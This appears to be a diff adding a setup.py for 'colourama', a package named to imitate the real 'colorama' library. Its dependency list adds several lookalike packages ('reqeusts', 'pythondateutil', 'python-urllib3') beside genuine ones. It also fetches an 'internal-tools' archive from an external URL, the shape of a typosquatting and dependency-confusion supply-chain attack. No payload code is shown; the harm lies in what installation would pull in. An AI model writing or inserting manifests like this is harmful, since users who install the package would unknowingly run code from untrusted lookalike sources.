@@ -0,0 +1,16 @@
+from setuptools import setup
+
+setup(
+    name="colourama",
+    version="0.4.6",
+    packages=["colourama"],
+    install_requires=[
+        "requests>=2.25",
+        "reqeusts>=2.25",
+        "python_dateutil",
+        "pythondateutil",
+        "python-urllib3",
+        "internal-tools @ https://files.example.net/internal_tools-1.0.tar.gz",
+    ],
+    dependency_links=["https://pypi.org/simple"],
+)